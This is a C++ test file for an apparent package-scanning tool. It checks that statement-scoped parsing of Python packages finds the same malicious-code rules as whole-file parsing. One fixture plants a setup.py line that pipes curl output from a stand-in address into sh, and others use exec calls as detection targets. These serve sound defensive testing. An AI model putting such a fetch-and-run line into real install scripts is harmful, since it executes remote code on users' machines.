@@ -1,0 +1,210 @@
+// Statement-scoped parsing (docs/architecture.md) must find exactly what a
+// whole-file parse finds: the same rules on the same files, lines, columns
+// and excerpts, on real inputs. And it must really parse less, or it would
+// be a silent fallback everywhere.
+#include <catch2/catch.hpp>
+
+#include <filesystem>
+#include <sstream>
+
+#include "engine/profile.hpp"
+#include "engine/compiled_pack.hpp"
+#include "engine/query.hpp"
+#include "engine_test_util.hpp"
+#include "support/fixtures.hpp"
+#include "support/temp_dir.hpp"
+
+using namespace canary;
+using namespace canary::enginetest;
+
+namespace {
+
+const LoadedPack& default_pack() {
+  static const LoadedPack lp =
+      load_pack(PackSource{{test::source_dir() / "rules"}, {test::source_dir() / "stdlib-rules"}});
+  return lp;
+}
+
+// Findings (rule, file, position, every line, excerpt) and errors.
+std::string outcome(const ArtifactReport& r) {
+  std::ostringstream s;
+  s << "verdict=" << to_string(r.verdict) << " score=" << r.score << " parsed=" << r.files_parsed << "\n";
+  for (const Finding& f : r.findings) {
+    s << f.rule << " " << f.file << ":" << f.line << ":" << f.column << " [";
+    for (uint32_t l : f.lines) s << l << ",";
+    s << "] " << f.excerpt << "\n";
+  }
+  for (const std::string& e : r.errors) s << "error: " << e << "\n";
+  return s.str();
+}
+
+struct Compared {
+  ScanProfile scoped, whole;
+};
+
+// Scans `artifact` both ways (and in test mode, which reads every query,
+// when asked) and checks the outcomes are the same.
+Compared compare_scans(const fs::path& artifact, bool test_mode) {
+  const LoadedPack& lp = default_pack();
+  REQUIRE(lp.pack);
+  Compared c;
+  ScanOptions opts;
+  opts.include_private = opts.include_sets = test_mode;
+  opts.profile = &c.scoped;
+  const std::string scoped = outcome(scan_artifact(*lp.pack, artifact, opts));
+  opts.whole_file_parse = true;
+  opts.profile = &c.whole;
+  const std::string whole = outcome(scan_artifact(*lp.pack, artifact, opts));
+  INFO(artifact.string() << (test_mode ? " (test mode)" : ""));
+  CHECK(scoped == whole);
+  // A fallback parses the file's ranges and then the whole file.
+  if (c.scoped.parse_fallbacks == 0) CHECK(c.scoped.parsed_bytes <= c.whole.parsed_bytes);
+  return c;
+}
+
+}  // namespace
+
+TEST_CASE("statement scope: the corpus replicas give the same findings as whole-file parsing", "[statement-scope]") {
+  size_t artifacts = 0;
+  uint64_t scoped = 0, whole = 0;
+  for (auto& e : fs::directory_iterator(test::build_dir() / "corpus")) {
+    const std::string name = e.path().filename().string();
+    if (!(name.size() > 4 && (name.substr(name.size() - 4) == ".whl" || name.find(".tar.gz") != std::string::npos)))
+      continue;
+    for (bool test_mode : {false, true}) {
+      Compared c = compare_scans(e.path(), test_mode);
+      scoped += c.scoped.parsed_bytes;
+      whole += c.whole.parsed_bytes;
+    }
+    ++artifacts;
+  }
+  CHECK(artifacts >= 8);
+  CHECK(scoped < whole);
+}
+
+TEST_CASE("statement scope: the rule fixtures give the same findings as whole-file parsing", "[statement-scope]") {
+  // Each rule directory as one directory artifact: its fixtures are real
+  // malicious and benign shapes written for the rules' AST patterns.
+  size_t dirs = 0;
+  for (const char* top : {"rules", "stdlib-rules"})
+    for (auto& e : fs::directory_iterator(test::source_dir() / top)) {
+      if (!e.is_directory()) continue;
+      for (bool test_mode : {false, true}) compare_scans(e.path(), test_mode);
+      ++dirs;
+    }
+  CHECK(dirs >= 5);
+}
+
+TEST_CASE("statement scope: Debian's wheels give the same findings and parse fewer bytes", "[statement-scope]") {
+  size_t wheels = 0;
+  for (auto& e : fs::directory_iterator("/usr/share/python-wheels")) {
+    const std::string name = e.path().filename().string();
+    if (name.size() < 4 || name.substr(name.size() - 4) != ".whl") continue;
+    Compared c = compare_scans(e.path(), false);
+    INFO(name << ": parsed " << c.scoped.parsed_bytes << " bytes scoped, " << c.whole.parsed_bytes << " whole");
+    CHECK(c.whole.parsed_bytes > 0);
+    CHECK(c.scoped.parsed_bytes < c.whole.parsed_bytes);
+    CHECK(c.scoped.parse_file_bytes == c.whole.parse_file_bytes);
+    ++wheels;
+  }
+  CHECK(wheels >= 2);
+}
+
+TEST_CASE("statement scope: a statement range with a syntax error falls back to a whole-file parse",
+          "[statement-scope]") {
+  // A syntax error the statement tokenizer does not see (it only follows
+  // strings and brackets), in the statement that holds the call: the
+  // range's tree has an error, as a mis-cut would give, so the file is
+  // parsed whole again and finds what the whole-file parse finds.
+  test::TempDir dir;
+  put(dir.path(), "pkg/setup.py",
+      "import os\n"
+      "X = 1\n"
+      "Y = = os.system(\"curl http://192.0.2.1/x | sh\")\n"
+      "def helper():\n"
+      "    return 2\n"
+      "Z = [1,\n"
+      "     2]\n");
+  Compared c = compare_scans(dir.path() / "pkg", false);
+  CHECK(c.scoped.parse_fallbacks >= 1);
+  CHECK(c.whole.parse_fallbacks == 0);
+}
+
+TEST_CASE("statement scope: only the statements with the literal are parsed, at the file's own positions",
+          "[statement-scope]") {
+  TempPack tp({{"r.canary",
+                rule("PY_EXEC", "  scope:\n    kind = python\n  patterns:\n"
+                                "    $e = ast `((call function: (identifier) @f) @match (#eq? @f \"exec\"))`\n"
+                                "  condition:\n    $e\n")}});
+  LoadedPack lp = load_ok(tp);
+  const std::string filler = "def helper(a, b):\n    return a + b\n\n";
+  std::string before;
+  for (int i = 0; i < 50; ++i) before += filler;
+  // `exec` inside longer names (execute, my_exec, exec2) cannot be the
+  // identifier `exec`: those statements are not parsed.
+  const std::string src = "import os\n" + before + "def execute(q):\n    my_exec = exec2 = q\n" +
+                          "x = '''\nexec(ignored)\n'''\n" + before + "if True:\n    exec(code)  # here\n" + before;
+  auto reader_scan = [&](bool whole, ScanProfile& profile) {
+    ScanOptions opts;
+    opts.whole_file_parse = whole;
+    opts.profile = &profile;
+    auto reader = make_memory_reader(ArtifactKind::Wheel, {{"pkg/m.py", src}});
+    return scan_reader({lp.pack.get()}, *reader, "<memory>", opts);
+  };
+  ScanProfile scoped_profile, whole_profile;
+  ArtifactReport scoped = reader_scan(false, scoped_profile), whole = reader_scan(true, whole_profile);
+  CHECK(outcome(scoped) == outcome(whole));
+  REQUIRE(scoped.findings.size() == 1);
+  const Finding& f = scoped.findings.front();
+  CHECK(f.line == 1 + 150 + 2 + 3 + 150 + 2);  // the exec( call inside the if
+  CHECK(f.column == 5);
+  CHECK(f.excerpt.find("exec(code)  # here") != std::string::npos);
+  CHECK(f.lines == std::vector<uint32_t>{f.line});
+  CHECK(whole_profile.parsed_bytes == src.size());
+  // The string statement (whose `exec(ignored)` is text) and the if statement.
+  CHECK(scoped_profile.parsed_bytes == std::string("x = '''\nexec(ignored)\n'''\n").size() +
+                                           std::string("if True:\n    exec(code)  # here\n").size());
+
+  // Every occurrence inside a longer name: the file needs no parse at all.
+  auto only_longer = make_memory_reader(ArtifactKind::Wheel, {{"pkg/n.py", "def execute():\n    pass\nexec_ = 1\n"}});
+  ScanProfile none;
+  ScanOptions opts;
+  opts.profile = &none;
+  ArtifactReport r = scan_reader({lp.pack.get()}, *only_longer, "<memory>", opts);
+  CHECK(r.findings.empty());
+  CHECK(none.parsed_bytes == 0);
+}
+
+TEST_CASE("query scope: #eq? and #any-of? literals are whole capture texts, #match? literals are not",
+          "[statement-scope]") {
+  std::vector<QueryProblem> problems;
+  auto exact = CompiledQuery::compile(
+      "((call function: (identifier) @f) @match (#any-of? @f \"exec\" \"eval\"))", problems);
+  REQUIRE(exact);
+  CHECK(exact->prefilter() == std::vector<std::string>{"eval", "exec"});
+  CHECK(exact->prefilter_exact() == std::vector<char>{1, 1});
+  auto regex = CompiledQuery::compile("((call function: (identifier) @f) @match (#match? @f \"^exec\"))", problems);
+  REQUIRE(regex);
+  CHECK(regex->prefilter() == std::vector<std::string>{"exec"});
+  CHECK(regex->prefilter_exact() == std::vector<char>{0});
+  // The same literal, exact in one pattern and a substring in another: not exact.
+  auto mixed = CompiledQuery::compile(
+      "((call function: (identifier) @f) @match (#eq? @f \"exec\"))\n"
+      "((call function: (attribute attribute: (identifier) @g)) @match (#match? @g \"exec\"))",
+      problems);
+  REQUIRE(mixed);
+  CHECK(mixed->prefilter_exact() == std::vector<char>{0});
+  CHECK(problems.empty());
+}
+
+TEST_CASE("query scope: every query of the default pack stays in one top-level statement", "[statement-scope]") {
+  // If a rule adds a query that may span statements, files that need it are
+  // parsed whole again: correct, but slower; this test says which query.
+  const LoadedPack& lp = default_pack();
+  REQUIRE(lp.pack);
+  REQUIRE(lp.pack->queries.size() > 40);
+  for (const auto& q : lp.pack->queries) {
+    INFO(q->text());
+    CHECK(q->within_statement());
+  }
+}
